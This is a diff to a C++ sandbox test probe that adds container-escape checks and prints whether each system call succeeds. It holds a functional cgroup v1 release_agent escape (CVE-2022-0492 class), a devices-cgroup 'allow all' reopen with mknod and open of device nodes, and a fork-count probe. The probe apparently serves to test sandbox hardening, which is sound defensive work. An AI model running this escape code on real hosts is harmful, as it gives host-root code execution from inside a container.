@@ -2,10 +2,12 @@
 // tree. Each mode makes system calls with arguments that are harmless if they
 // reach the kernel (they fail there with an error other than EPERM, or do
 // nothing), and prints one "name result" line per call, result being "ok" or
-// the errno name. Modes: denied, allowed, tty, stdin-tty, compat; and the
-// attacks on processes of ours that a container can see: watch (waits for a
-// process entered from the host, holds it on a FIFO /etc/passwd and tries
-// everything on it), inspect PID (the same on a running process).
+// the errno name. Modes: denied, allowed, tty, stdin-tty, compat; the
+// attacks on the host through cgroups and devices: cgroup-escape, devices,
+// devices-v1-reopen, forks; and the attacks on processes of ours that a
+// container can see: watch (waits for a process entered from the host, holds
+// it on a FIFO /etc/passwd and tries everything on it), inspect PID (the same
+// on a running process).
 #include <fcntl.h>
 #include <linux/netlink.h>
 #include <sched.h>
@@ -31,8 +33,11 @@
 #include <cstdio>
 #include <algorithm>
 #include <set>
+#include <fstream>
+#include <sstream>
 #include <string>
 #include <string_view>
+#include <vector>
 
 namespace {
 
@@ -235,12 +240,164 @@ int watch() {
     return 0;
 }
 
+// The release_agent escape (CVE-2022-0492 class), for every cgroup v1
+// hierarchy in /proc/self/cgroup: mount it, look for release_agent at the
+// root the mount shows, and if it is there, point it at agent (a host path)
+// and trigger it by emptying a notify_on_release cgroup. Prints
+// "cgroup_H PATH", "mount_H", "release_agent_H" (ok: present), "write_agent_H"
+// and, when it got that far, "trigger_H".
+int cgroup_escape(const char* agent, const char* tag) {
+    std::ifstream in("/proc/self/cgroup");
+    std::string line;
+    int n = 0;
+    while (std::getline(in, line)) {
+        auto a = line.find(':'), b = line.find(':', a + 1);
+        if (a == std::string::npos || b == std::string::npos) continue;
+        std::string ctl = line.substr(a + 1, b - a - 1);
+        std::printf("cgroup_%s %s\n", ctl.empty() ? "cgroup2" : ctl.c_str(), line.substr(b + 1).c_str());
+        if (ctl.empty()) continue;
+        std::string dir = "/tmp/cg-" + std::to_string(n++);
+        mkdir(dir.c_str(), 0755);
+        std::string opts = ctl.rfind("name=", 0) == 0 ? "none," + ctl : ctl;
+        std::string name = "_" + ctl;
+        long r = ::mount("cgroup", dir.c_str(), "cgroup", 0, opts.c_str());
+        report(("mount" + name).c_str(), r);
+        if (r < 0) continue;
+        std::string ra = dir + "/release_agent";
+        report(("release_agent" + name).c_str(), access(ra.c_str(), F_OK));
+        int fd = open(ra.c_str(), O_WRONLY | O_CLOEXEC);
+        long w = fd < 0 ? -1 : write(fd, agent, strlen(agent));
+        report(("write_agent" + name).c_str(), w);
+        if (fd >= 0) close(fd);
+        if (w >= 0) {
+            // The kernel would run agent as host root once this cgroup empties.
+            std::string x = dir + "/" + tag;
+            mkdir(x.c_str(), 0755);
+            std::ofstream(x + "/notify_on_release") << "1";
+            pid_t pid = fork();
+            if (pid == 0) {
+                std::ofstream(x + "/cgroup.procs") << getpid() << std::flush;
+                _exit(0);
+            }
+            int st = 0;
+            waitpid(pid, &st, 0);
+            report(("trigger" + name).c_str(), 0);
+        }
+        umount2(dir.c_str(), MNT_DETACH);
+    }
+    return 0;
+}
+
+// One device: "node:NAME:TYPE:MAJOR:MINOR" is created with mknod at
+// /dev/probe-NAME (the container's /tmp is nodev) and opened; "path:PATH" is
+// opened. Prints mknod_NAME / open_NAME.
+void try_device(const std::string& spec) {
+    std::vector<std::string> f;
+    std::istringstream in(spec);
+    for (std::string part; std::getline(in, part, ':');) f.push_back(part);
+    std::string path, name;
+    bool block = false;
+    if (f.size() == 5 && f[0] == "node") {
+        name = f[1];
+        path = "/dev/probe-" + name;
+        block = f[2] == "b";
+        unlink(path.c_str());
+        long r = mknod(path.c_str(), (block ? S_IFBLK : S_IFCHR) | 0600,
+                       makedev(std::stoul(f[3]), std::stoul(f[4])));
+        report(("mknod_" + name).c_str(), r);
+        if (r < 0) {
+            std::printf("open_%s skipped\n", name.c_str());
+            return;
+        }
+    } else if (f.size() == 2 && f[0] == "path") {
+        path = f[1];
+        name = path.substr(path.rfind('/') + 1);
+        struct stat st {};
+        block = stat(path.c_str(), &st) == 0 && S_ISBLK(st.st_mode);
+    } else {
+        std::printf("bad_spec %s\n", spec.c_str());
+        return;
+    }
+    int fd = open(path.c_str(), (block ? O_RDONLY : O_RDWR) | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
+    report(("open_" + name).c_str(), fd);
+    if (fd >= 0) close(fd);
+}
+
+int devices(int argc, char** argv) {
+    for (int i = 2; i < argc; ++i) {
+        if (std::string_view(argv[i]) == "pts") {
+            int m = posix_openpt(O_RDWR | O_NOCTTY);
+            report("open_ptmx", m);
+            if (m < 0) continue;
+            grantpt(m);
+            unlockpt(m);
+            int s = open(ptsname(m), O_RDWR | O_NOCTTY);
+            report("open_pts", s);
+            if (s >= 0) close(s);
+            close(m);
+            continue;
+        }
+        try_device(argv[i]);
+    }
+    return 0;
+}
+
+// Container root reopens its own v1 devices cgroup (it has CAP_SYS_ADMIN and
+// sees that cgroup as the root of its mount): "a" to devices.allow, then
+// mknod + open of tty1. Prints devices_allow_all, mknod_tty1, open_tty1.
+int devices_v1_reopen() {
+    mkdir("/tmp/cg-dev", 0755);
+    long r = ::mount("cgroup", "/tmp/cg-dev", "cgroup", 0, "devices");
+    report("mount_devices", r);
+    if (r == 0) {
+        int fd = open("/tmp/cg-dev/devices.allow", O_WRONLY | O_CLOEXEC);
+        long w = fd < 0 ? -1 : write(fd, "a", 1);
+        report("devices_allow_all", w);
+        if (fd >= 0) close(fd);
+        umount2("/tmp/cg-dev", MNT_DETACH);
+    }
+    try_device("node:tty1:c:4:1");
+    return 0;
+}
+
+// Forks up to n children that wait for the parent's end; prints "forked K"
+// and "fork_error" (the errno of the first failing fork, or "none").
+int forks(int n) {
+    int p[2];
+    if (pipe(p) < 0) return 1;
+    int made = 0;
+    int err = 0;
+    for (; made < n; ++made) {
+        pid_t pid = fork();
+        if (pid < 0) {
+            err = errno;
+            break;
+        }
+        if (pid == 0) {
+            close(p[1]);
+            char c;
+            (void)!read(p[0], &c, 1);  // until the parent closes its end
+            _exit(0);
+        }
+    }
+    close(p[1]);
+    while (wait(nullptr) > 0) {
+    }
+    std::printf("forked %d\nfork_error %s\n", made, err ? strerrorname_np(err) : "none");
+    return 0;
+}
+
 }  // namespace
 
 int main(int argc, char** argv) {
+    if (argc < 2) return 2;
     if (argc == 3 && std::string_view(argv[1]) == "inspect") return inspect(std::atoi(argv[2])), 0;
-    if (argc != 2) return 2;
     std::string_view mode = argv[1];
+    if (mode == "cgroup-escape" && argc == 4) return cgroup_escape(argv[2], argv[3]);
+    if (mode == "devices") return devices(argc, argv);
+    if (mode == "devices-v1-reopen") return devices_v1_reopen();
+    if (mode == "forks" && argc == 3) return forks(std::atoi(argv[2]));
+    if (argc != 2) return 2;
     if (mode == "denied") return denied();
     if (mode == "allowed") return allowed();
     if (mode == "tty") return tty();
